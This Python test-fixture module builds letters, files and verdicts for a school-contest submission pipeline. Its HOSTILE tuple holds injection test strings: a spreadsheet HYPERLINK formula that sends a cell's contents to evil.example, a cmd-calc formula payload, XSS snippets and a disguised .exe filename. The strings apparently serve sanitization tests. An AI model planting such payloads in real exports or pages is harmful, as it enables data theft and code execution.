"""Makes letters, files and submissions for tests, with ordinary values where none are given."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from functools import cache
from pathlib import Path

from parsers.facts import ApplicationFacts, Evidence, FieldValue, FileFacts, Problem, ReadBy, Segment
from pipeline.contest import Contest, load
from pipeline.state import (
    ApplicationState,
    FileState,
    Finding,
    Interval,
    Judged,
    KindClaim,
    LetterState,
    LetterVerdict,
    Overview,
    Standing,
    SubmissionState,
    Verdict,
)

ROOT = Path(__file__).parents[2]
_LEGAL = "Астана қаласы әкімдігінің «№ 79 Ғ. Қайырбеков атындағы мектеп-лицейі» шаруашылық жүргізу құқығындағы "
LONG_NAME = (_LEGAL * 3)[:200]
DEADLINE = "2025-10-17T23:59:59+05:00"
# Texts that try to run in a spreadsheet, to turn the direction of writing, to become a page's markup, or to break it.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Ашу")',
    "+7 701 111 22 33",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "vertical\x0btab",
    "bell\x07 and \x00 null",
    "doc\u202egpj.exe",
    "<script>alert('Сәлем')</script>",
    "<img src=x onerror=alert(1)>",
    "a&b <b>\"қою\"</b> 'x'",
    "broken \udcff\ud800 halves",
    "{{ 7*7 }} {% raw %}",
    "\u2066isolated\u2069 \ufeff \u2028 line",
    "{ $file } { -brand }",
    "nonchar \ufffe\uffff",
    "＝1+1",
    "<r><t>rich & broken</r>",
    "_x0041_ \x1b[31m red \x9b",
    "'=1+1",
)


@cache
def the_contest() -> Contest:
    """The contest of the repository's own configuration."""
    return load(ROOT / "config.toml").contest


def at(text: str) -> datetime:
    """A moment of the contest's zone from «2025-10-15 10:11» or with seconds."""
    return datetime.fromisoformat(text).replace(tzinfo=the_contest().dates.zone)


def interval(text: str, proof: str = "trusted_received") -> Interval:
    """A receipt whose two ends are some seconds apart; without proof it has no ends."""
    if proof == "none":
        return Interval(None, None, "none")
    start = at(text)
    return Interval(start, start if proof == "internaldate" else start + timedelta(seconds=4), proof)


def facts(role: str = "document", *, problem: str | None = None, pages: int | None = 2, kind: str = "pdf") -> FileFacts:
    """The facts of one file that is one thing."""
    segment = Segment(None, role)  # type: ignore[arg-type]
    read: ReadBy = "none" if problem else "text"
    return FileFacts(kind, pages, (read,) * (pages or 1), (segment,), problem=Problem(problem) if problem else None)


@dataclass
class Builder:
    """Makes letters, files and submissions with numbers of their own."""

    contest: Contest = field(default_factory=the_contest)
    letters: list[LetterState] = field(default_factory=list)
    judged: list[Judged] = field(default_factory=list)
    files: int = 0
    held: dict[int, list[FileState]] = field(default_factory=dict)

    def file(self, letter: LetterState, name: str, made: FileFacts | None = None) -> FileState:
        """A file of a letter."""
        self.files += 1
        file = FileState(
            id=self.files,
            letter_id=letter.id,
            letter_key=letter.key,
            path=str(self.files),
            name=name,
            content_type="application/pdf",
            size=120_000,
            sha256=f"{self.files:064x}",
            facts=made or facts(),
        )
        self.held.setdefault(letter.id, []).append(file)
        return file

    def letter(
        self,
        received: str = "2025-10-15 10:11:12",
        *,
        sender: str = "mektep@example.kz",
        sender_name: str = "Мектеп",
        subject: str = "Байқауға",
        proof: str = "trusted_received",
        verdict: LetterVerdict = LetterVerdict.SUBMISSION,
        why: Finding | None = None,
        founder: str | None = None,
        joined_by: Finding | None = None,
        problem: Problem | None = None,
    ) -> LetterState:
        """A letter; without ``founder`` it founds its own submission when it is one."""
        number = len(self.letters) + 1
        key = f"{number:064x}"
        belongs = verdict is LetterVerdict.SUBMISSION
        letter = LetterState(
            id=number,
            key=key,
            message_id=f"<{number}@example.kz>",
            sender=sender,
            sender_name=sender_name,
            subject=subject,
            sent="Wed, 15 Oct 2025 10:11:00 +0500",
            source=f"letters/{number}.eml",
            receipt=interval(received, proof),
            verdict=verdict,
            why=why or Finding("letter", "letter_application", {"file": "сұраныс.docx"}, passed=True),
            founder=(founder or key) if belongs else founder,
            joined_by=joined_by or (Finding("grouping", "founded", passed=True) if belongs and not founder else None),
            problem=problem,
        )
        self.letters.append(letter)
        return letter

    def application(
        self,
        letter: LetterState,
        values: Mapping[str, str] | None = None,
        *,
        status: str = "sure",
        signed: bool | None = None,
        in_body: bool = False,
        rivals: tuple[str, ...] = (),
        leave_out: Sequence[str] = (),
    ) -> ApplicationState:
        """An application with ordinary values where none are given."""
        given = {
            "institution": "«№ 9 мектеп-лицей» ШЖҚ МКК",
            "address": "Астана қаласы, Желтоқсан көшесі, 9",
            "phone": "8 (7172) 55-11-22",
            "email": "mektep9@example.kz",
            "subject": "Математика",
            "leader": "Әлімова Гүлнәр Сәкенқызы",
            "leader_phone": "+7 701 555 44 33",
            "head": "Қасымов Ерлан Болатұлы",
            "date": "«10» қазан 2025 жыл",
            **(values or {}),
        }
        fields = tuple(
            FieldValue(key, value, "2025-10-10" if key == "date" else value, page=1, line=place)
            for place, (key, value) in enumerate(given.items(), 1)
            if key not in leave_out
        )
        evidence = (Evidence("heading", "байқауына қатысуға СҰРАНЫС", 1),)
        made = ApplicationFacts(fields, (1,), evidence, status, signed)  # type: ignore[arg-type]
        file = None if in_body else self.file(letter, "сұраныс.docx", facts("application", pages=1))
        return ApplicationState(made, letter.key, file, rivals)

    def claim(
        self,
        letter: LetterState,
        kind: str,
        name: str | None = None,
        *,
        status: str = "sure",
        partly: bool = False,
        pages: tuple[int, ...] | None = (1, 2),
        words: str | None = None,
        by: str = "machine",
    ) -> KindClaim:
        """A file that counts (or may count) for a kind."""
        known = next((one for one in self.contest.kinds if one.key == kind), None)
        title = known.title.kk if known else "Өтінім"
        evidence = (
            Evidence("heading", words if words is not None else title, 1),
            Evidence("name", title.split()[0].lower()),
        )
        made = self.file(letter, name or f"{known.number if known else 0:02} {title[:40]}.pdf")
        return KindClaim(kind, made, letter.message_id, pages, status, partly, evidence, by)  # type: ignore[arg-type]

    def all_claims(self, letter: LetterState, *, without: Sequence[str] = ()) -> dict[str, tuple[KindClaim, ...]]:
        """One sure file for every kind."""
        return {k.key: (self.claim(letter, k.key),) for k in self.contest.kinds if k.key not in without}

    def submit(
        self,
        letters: Sequence[LetterState],
        verdict: Verdict,
        *,
        application: ApplicationState | None = None,
        claims: Mapping[str, tuple[KindClaim, ...]] | None = None,
        late: Mapping[str, tuple[KindClaim, ...]] | None = None,
        **more: object,
    ) -> Judged:
        """A submission of these letters with its verdict."""
        deadline = self.contest.dates.deadline
        state = SubmissionState(
            number=len(self.judged) + 1,
            founder=letters[0].key,
            aliases=(),
            deadline=deadline,
            letters=tuple(letters),
            timing={letter.key: letter.receipt.against(deadline) for letter in letters},
            application=application,
            claims=claims or {},
            late=late or {},
        )
        judged = Judged(replace(state, **more), verdict)  # type: ignore[arg-type]
        self.judged.append(judged)
        return judged

    def overview(self, as_of: str = "2025-10-18 09:00:00") -> Overview:
        """All of it at one moment."""
        letters = {one.key: replace(one, files=tuple(self.held.get(one.id, ()))) for one in self.letters}
        judged = [
            replace(one, state=replace(one.state, letters=tuple(letters[letter.key] for letter in one.state.letters)))
            for one in self.judged
        ]
        return Overview(
            as_of=at(as_of),
            submissions=tuple(judged),
            letters=tuple(letters.values()),
            numbers={judged.state.founder: judged.state.number for judged in self.judged},
        )


def verdict(
    standing: Standing,
    reasons: Sequence[str] = (),
    findings: Sequence[Finding] = (),
    missing: Sequence[str] = (),
    doubtful: Sequence[str] = (),
) -> Verdict:
    """A verdict with the passes that every submission has."""
    passes = (
        Finding("receipt", "receipt_proven", passed=True),
        Finding("eligibility", "eligible", {"institution": "мектеп"}, passed=True),
        Finding("one_per_school", "only_of_school", passed=True),
    )
    return Verdict(standing, tuple(reasons), (*findings, *passes), tuple(missing), tuple(doubtful))


def in_time(time: str = "2025-10-15T10:11:12+05:00", count: int = 1) -> Finding:
    """The finding of a submission that came in time."""
    deadline = the_contest().dates.deadline.isoformat()
    return Finding("deadline", "received_in_time", {"time": time, "deadline": deadline, "count": str(count)}, True)


def missing(*kinds: str) -> list[Finding]:
    """One finding for each missing kind."""
    return [
        Finding("completeness", "kind_missing", {"kind": kind})
        if kind != "application"
        else Finding("application", "application_absent")
        for kind in kinds
    ]
